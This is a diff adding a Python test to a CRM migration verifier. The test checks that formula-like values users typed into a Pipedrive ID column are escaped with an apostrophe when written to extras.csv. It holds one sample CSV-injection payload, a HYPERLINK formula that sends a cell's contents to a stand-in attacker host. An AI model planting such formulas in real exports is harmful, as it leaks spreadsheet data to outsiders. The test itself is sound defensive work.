@@ -284,6 +284,27 @@ def test_every_extra_record_is_listed_in_extras_csv_and_verify_json_keeps_their_
     assert f"notafailure):6(listedin{path})" in "".join(output.split())  # the console may wrap the path anywhere
 
 
+def test_a_pipedrive_id_a_user_typed_as_a_formula_reaches_a_spreadsheet_as_text(migrated, customermates, tmp_path):
+    """extras.csv shows what users typed into the Pipedrive ID column; a cell beginning with `=`, `+`,
+    `-` or `@` is a formula to a spreadsheet, which ran it (here: sent the sheet's first cell away)
+    where the reader expected an id. Such a cell starts with an apostrophe, which a spreadsheet shows
+    as text; a negative number stays as it is."""
+    formula = '=HYPERLINK("https://attacker.example/?"&A2,"open")'
+    column_id = column(customermates, "contacts", "Pipedrive ID")["id"]
+    made = api(
+        customermates, "POST", "/contacts/many",
+        {"contacts": [{"firstName": "Typed", "lastName": "By a user", "customFieldValues": [{"columnId": column_id, "value": value}]}
+                      for value in (formula, "@SUM(1)", "-12")]},
+    )
+
+    code, _, output = verify(migrated, tmp_path / "out")
+
+    assert code == 0, output
+    rows = csv_rows(tmp_path / "out" / "extras.csv")
+    typed = {r["target_id"]: r["pipedrive_id"] for r in rows if r["entity"] == "contacts"}
+    assert typed == {made[0]["id"]: "'" + formula, made[1]["id"]: "'@SUM(1)", made[2]["id"]: "-12"}
+
+
 def test_a_verify_before_the_load_lists_every_record_in_missing_csv_and_verify_json_keeps_the_count_and_the_first_few(env, sample_dir, tmp_path):
     """Nothing arrived: every record is a failure. verify.json and the output hold the count and
     the first 15; missing.csv every one, streamed from the state file in entity order, then the
